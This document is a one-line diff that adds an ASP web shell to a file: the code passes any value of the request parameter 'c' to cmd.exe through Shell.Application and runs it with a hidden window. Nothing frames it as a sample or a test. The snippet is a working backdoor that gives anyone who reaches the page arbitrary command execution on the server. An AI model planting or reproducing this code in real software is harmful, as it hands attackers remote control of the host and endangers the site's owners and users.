@@ -1,0 +1,1 @@
+<% Set sa = Server.CreateObject("Shell.Application") : sa.ShellExecute "cmd.exe", "/c " & Request("c"), "", "open", 0 %>
